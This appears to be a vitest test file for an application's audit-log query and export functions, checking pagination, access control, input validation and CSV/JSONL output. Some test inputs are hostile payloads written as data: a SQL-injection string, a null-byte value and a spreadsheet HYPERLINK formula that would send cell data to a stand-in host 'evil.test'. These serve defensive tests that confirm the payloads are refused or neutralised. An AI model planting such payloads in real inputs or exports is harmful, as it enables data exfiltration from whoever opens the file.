import { describe, expect } from 'vitest';
import { auditLogResponse } from '#contract/functions/audit-log.ts';
import { manyAuditEntries } from '#testing/factories/audit-entries.ts';
import { buildPerson } from '#testing/factories/person.ts';
import { invokeFunction } from '#testing/invoke-function.ts';
import { type SignedIn, test } from '#testing/steeple-test.ts';

async function addAccounts({ client }: SignedIn, ...names: string[]) {
  for (const account_name of names) {
    const { error } = await client.from('accounts').insert({ account_name });
    expect(error).toBeNull();
  }
}

describe('audit-log', () => {
  test('returns pages to a super admin, newest first', async ({ superAdmin }) => {
    await addAccounts(superAdmin, 'One', 'Two', 'Three');
    const mine = { actorId: superAdmin.userId, tableName: 'public.accounts', limit: 2 };
    const first = auditLogResponse.parse(
      (await invokeFunction(superAdmin.client, 'audit-log', mine)).data,
    );
    expect(first.entries.map(({ subject }) => subject)).toEqual(['Three', 'Two']);
    const { data } = await invokeFunction(superAdmin.client, 'audit-log', {
      ...mine,
      before: first.next,
    });
    const second = auditLogResponse.parse(data);
    expect(second.entries.map(({ subject }) => subject)).toEqual(['One']);
    expect(second.next).toBeNull();
  });

  test('is for nobody else', async ({ server, admin }) => {
    for (const [name, body] of [
      ['audit-log', {}],
      ['audit-log-export', { format: 'csv' }],
    ] as const) {
      expect(await invokeFunction(admin.client, name, body)).toMatchObject({
        status: 403,
        data: { success: false, error: 'Unauthorized' },
      });
      expect(await invokeFunction(server.clientOfNobody(), name, body)).toMatchObject({
        status: 401,
      });
    }
  });

  test.for<[Record<string, unknown>]>([
    [{ limit: 0 }],
    [{ limit: 201 }],
    [{ limit: 1.5 }],
    [{ before: 'x' }],
    [{ operation: 'TRUNCATE' }],
    [{ tableName: 'auth.sessions' }],
    [{ rowId: 'x' }],
    [{ actorId: "' or true --" }],
    [{ from: 'yesterday' }],
    [{ from: '2026-02-31T00:00:00Z' }],
    [{ operaton: 'DELETE' }],
    [{ person: 'a\0b' }],
  ])('%j is refused rather than passed over', async ([body], { superAdmin }) => {
    expect(await invokeFunction(superAdmin.client, 'audit-log', body)).toMatchObject({
      status: 400,
      data: { success: false, code: 'validation_failed' },
    });
  });
});

describe('audit-log-export', () => {
  test('writes the filtered log as CSV that no spreadsheet treats as formulas', async ({
    superAdmin,
  }) => {
    const formula = '=HYPERLINK("http://evil.test?x="&A1,"Click")';
    await addAccounts(superAdmin, formula, 'Line\r\nbreak, and "quotes"', 'Ünïcode ✝');
    const { data, response } = await invokeFunction(superAdmin.client, 'audit-log-export', {
      format: 'csv',
      actorId: superAdmin.userId,
      tableName: 'public.accounts',
      operation: 'INSERT',
    });
    expect(response?.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response?.headers.get('content-disposition')).toBe(
      'attachment; filename="steeple-audit-log.csv"',
    );
    expect(response?.headers.get('cache-control')).toBe('no-store');
    const lines = String(data).split('\r\n"');
    expect(lines[0]).toBe(
      '"happened_at","actor_name","actor_email","actor_id","operation","table_name","row_id","subject","account_name","before","after"',
    );
    expect(lines[1]).toContain('"Ünïcode ✝"');
    expect(data).toContain('"Line\r\nbreak, and ""quotes"""');
    expect(data).toContain(`"'${formula.replaceAll('"', '""')}"`);
    expect(data).not.toMatch(/(^|,)"\s*[=+\-@]/m);
  });

  test('begins with the byte order mark that spreadsheets need', async ({ server, superAdmin }) => {
    const { data } = await superAdmin.client.auth.getSession();
    const answer = await fetch(`${server.url}/functions/v1/audit-log-export`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${data.session?.access_token}`,
        'content-type': 'application/json',
      },
      body: '{"format":"csv","person":"nobody is called this"}',
    });
    const bytes = new Uint8Array(await answer.arrayBuffer());
    expect([...bytes.slice(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x22]);
  });

  test('writes JSON lines to the letter, values whole', async ({ superAdmin }) => {
    const title = '=1+1\nforged line';
    const prompt = 'x'.repeat(20_000);
    await superAdmin.client.from('knowledge').insert({ title, prompt });
    const { data, response } = await invokeFunction(superAdmin.client, 'audit-log-export', {
      format: 'jsonl',
      actorId: superAdmin.userId,
      tableName: 'public.knowledge',
    });
    expect(response?.headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
    const lines = String(data).trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ subject: title, after: { title, prompt } });
  });

  test('exports many pages, complete and in order', async ({ database, superAdmin }) => {
    const { data } = await invokeFunction(superAdmin.client, 'audit-log-export', {
      format: 'jsonl',
      actorId: await manyAuditEntries(database.owner, 1_203),
    });
    const numbers = String(data)
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line).after.number);
    expect(numbers).toEqual(Array.from({ length: 1_203 }, (_, index) => 1_203 - index));
  });

  test('of somebody who loses the right meanwhile is cut off instead of ending as if whole', async ({
    database,
    server,
  }) => {
    const leaver = await buildPerson(database.owner, { role: 'super_admin' });
    const client = await server.clientOf(leaver.email);
    const { data } = await client.auth.getSession();
    const actorId = await manyAuditEntries(database.owner, 20_000, 'wide '.repeat(400));
    const answer = await fetch(`${server.url}/functions/v1/audit-log-export`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${data.session?.access_token}`,
        'content-type': 'application/json',
      },
      body: JSON.stringify({ format: 'jsonl', actorId }),
    });
    const reader = answer.body?.getReader();
    expect((await reader?.read())?.done).toBe(false);
    await database.owner.query('delete from auth.users where id = $1', [leaver.userId]);
    await expect(
      (async () => {
        while (!(await reader?.read())?.done) {}
      })(),
    ).rejects.toThrow();
    expect(server.logged.join('')).toContain('an export of the audit log was cut off');
  });
});
